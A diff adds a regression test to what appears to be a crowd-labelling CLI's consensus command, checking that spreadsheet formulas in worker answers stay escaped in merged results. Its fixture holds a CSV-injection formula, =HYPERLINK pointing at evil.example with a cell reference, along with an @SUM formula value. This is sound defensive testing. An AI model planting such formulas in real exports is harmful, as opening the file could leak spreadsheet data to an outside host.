@@ -139,3 +139,25 @@ def test_ratings_on_two_scales_merge_whole_without_a_config(runner, tmp_path):
     assert "skipped" not in result.stderr and "left out" not in result.stderr
     assert set(results(result.stdout)) == {"r1", "r2"}
     assert json.loads(report.read_text(encoding="utf-8"))["answers"] == 6
+
+
+def test_a_formula_read_from_an_export_is_written_escaped_again(runner, tmp_path):
+    """A security review had two volunteers answer =HYPERLINK(...): the export
+    escaped it, `bitesize consensus` took the escape off to merge, and wrote
+    RESULTS.csv with the formula live. Results are escaped as exports are, for
+    text and for labels (and task ids) alike."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    quoted = formula.replace('"', '""')
+    texts = write(tmp_path / "texts.csv", "task,worker,answer\n"
+                  f'"\'=1+1",w1,"\'{quoted}"\n'
+                  f'"\'=1+1",w2,"\'{quoted}"\n')
+    typed = runner.invoke(cli, args=["consensus", "--type", "transcribe", str(texts)])
+    assert typed.exit_code == 0, typed.output
+    assert results(typed.stdout) == {"'=1+1": "'" + formula}
+    labels = write(tmp_path / "labels.csv", "task,worker,answer\n"
+                   "t1,w1,'@SUM(A1)\nt1,w2,'@SUM(A1)\nt1,w3,seal\n"
+                   "t2,w1,'-1\nt2,w2,-1\nt2,w3,seal\n")
+    merged = runner.invoke(cli, args=["consensus", str(labels)])
+    assert merged.exit_code == 0, merged.output
+    # a plain number is a label to keep as it is (sentiment -1/0/1), never escaped
+    assert results(merged.stdout) == {"t1": "'@SUM(A1)", "t2": "-1"}
